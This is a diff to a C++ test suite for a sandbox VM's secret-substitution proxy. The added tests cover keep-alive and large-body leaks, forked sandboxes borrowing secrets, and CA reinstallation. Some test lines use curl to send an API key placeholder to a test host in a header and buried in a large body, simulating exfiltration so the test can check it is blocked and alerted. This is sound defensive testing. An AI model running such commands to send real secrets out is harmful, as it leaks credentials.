@@ -155,6 +155,8 @@ private Q_SLOTS:
     void everyRequestOfAKeepAliveConnectionIsSubstituted();
     void thePlaceholderToAnotherHostIsBlockedAndAlerted();
     void theRealValueIsNeverInTheGuest();
+    void aForkBorrowsWhatItsOriginBorrows();
+    void aStartNobodyWaitsForStillInstallsTheCa();
     void aLockedVaultGetsAReadable403();
 };
 
@@ -369,12 +371,24 @@ void TestSecretsVm::thePlaceholderToAnotherHostIsBlockedAndAlerted()
     // Plain HTTP without a placeholder passes.
     r = guestSh(u"curl -sS --max-time 30 -w '\\n%{http_code}' http://plain.test.example/fine"_s);
     QCOMPARE(statusOf(r), QByteArray("200"));
+    // A clean first request, then the placeholder in the second request of the same keep-alive
+    // connection, and far into a large body: both are caught after the first head.
+    r = guestSh(u"curl -sS --max-time 30 http://plain.test.example/first-clean --next -H \"x-api-key: $API_KEY\" "
+                "http://plain.test.example/second-leaks; echo; head -c 300000 /dev/zero | tr '\\0' a > /tmp/body; "
+                "printf '%s' \"$API_KEY\" >> /tmp/body; curl -sS --max-time 30 -H 'Expect:' --data-binary @/tmp/body "
+                "http://plain.test.example/body-leaks; echo"_s);
+    bool firstSeen = false;
+    for (const QByteArray &req : m_plain->requests()) {
+        firstSeen = firstSeen || req.contains("first-clean");
+        QVERIFY2(!req.contains("second-leaks") && !req.contains(m_placeholder), req.left(300).constData());
+    }
+    QVERIFY2(firstSeen, r.out.constData());
 
     const QList<QJsonObject> got = alerts(3000);
     int exfiltration = 0;
     for (const QJsonObject &a : got)
         exfiltration += a.value("kind"_L1).toString() == "exfiltration"_L1 && a.value("sandbox"_L1).toString() == m_box;
-    QVERIFY2(exfiltration >= 2, qPrintable(u"%1 exfiltration alerts of %2 events"_s.arg(exfiltration).arg(got.size())));
+    QVERIFY2(exfiltration >= 4, qPrintable(u"%1 exfiltration alerts of %2 events"_s.arg(exfiltration).arg(got.size())));
 }
 
 void TestSecretsVm::theRealValueIsNeverInTheGuest()
@@ -406,6 +420,65 @@ void TestSecretsVm::theRealValueIsNeverInTheGuest()
     // Positive control: what the guest wrote (the CA block of its bundle) is found there.
     const Run written = runProgram(u"grep"_s, {u"-c"_s, u"-a"_s, u"-F"_s, u"# Airlock sandbox CA"_s, disk});
     QVERIFY2(written.out.trimmed().toInt() >= 1, "the disk search cannot see what the guest wrote");
+}
+
+void TestSecretsVm::aForkBorrowsWhatItsOriginBorrows()
+{
+    const Run snap = ctl({u"--json"_s, u"snapshot"_s, u"create"_s, m_box});
+    QVERIFY2(snap.exitCode == 0, snap.err.constData());
+    const QString id = QString::number(QJsonDocument::fromJson(snap.out).object().value("id"_L1).toInteger());
+    const QString fork = uniqueName(u"svmf"_s);
+    const Run forked = ctl({u"fork"_s, m_box, id, fork, u"--start"_s});
+    QVERIFY2(forked.exitCode == 0, QByteArray(forked.err + m_daemon.log().right(3000)).constData());
+    const QString origin = m_box;
+    m_box = fork; // the helpers below talk to the fork
+    const Run env = guestSh(u"echo $API_KEY"_s);
+    const Run r = curlWithKey(u"https://api.test.example/from-fork"_s);
+    const auto got = requestsTo("/from-fork");
+    const Run secrets = ctl({u"--json"_s, u"secret"_s, u"ls"_s});
+    ctl({u"kill"_s, fork}, {}, 120000);
+    const Run removed = ctl({u"rm"_s, fork}, {}, 120000);
+    m_box = origin;
+    QCOMPARE(env.out.trimmed(), m_placeholder); // same placeholder: files on the forked disk keep working
+    QVERIFY2(statusOf(r) == "200", QByteArray(r.out + r.err + m_daemon.log().right(3000)).constData());
+    QCOMPARE(got.size(), 1);
+    QCOMPARE(got.first().header("x-api-key"), kRealKey);
+    QVERIFY2(secrets.out.contains(fork.toUtf8()), "secret ls does not show the fork as a borrower");
+    QVERIFY2(removed.exitCode == 0, removed.err.constData());
+}
+
+void TestSecretsVm::aStartNobodyWaitsForStillInstallsTheCa()
+{
+    // Take the CA out of the guest's trust store, power off, and start without waiting.
+    const Run emptied = guestSh(u": > /etc/ssl/certs/ca-certificates.crt; sync"_s);
+    QCOMPARE(emptied.exitCode, 0);
+    QCOMPARE(ctl({u"kill"_s, m_box}, {}, 120000).exitCode, 0);
+    QLocalSocket api;
+    api.connectToServer(m_daemon.socketPath());
+    QVERIFY(api.waitForConnected(5000));
+    api.write(u"{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"sandbox.start\",\"params\":{\"name\":\"%1\",\"wait\":false}}\n"_s
+                  .arg(m_box).toUtf8());
+    QByteArray reply;
+    QElapsedTimer t;
+    t.start();
+    while (!reply.contains('\n') && t.elapsed() < 30000) {
+        api.waitForReadyRead(500);
+        reply += api.readAll();
+    }
+    QVERIFY2(reply.contains("\"result\""), reply.constData());
+    // The daemon puts the CA back once the agent answers: curl through the interception works.
+    QByteArray status;
+    Run r;
+    t.restart();
+    while (t.elapsed() < 120000) {
+        r = curlWithKey(u"https://api.test.example/after-nowait"_s);
+        status = statusOf(r);
+        if (status == "200")
+            break;
+        QTest::qWait(1000);
+    }
+    QVERIFY2(status == "200", QByteArray(r.out + r.err + m_daemon.log().right(3000)).constData());
+    QCOMPARE(requestsTo("/after-nowait").first().header("x-api-key"), kRealKey);
 }
 
 void TestSecretsVm::aLockedVaultGetsAReadable403()
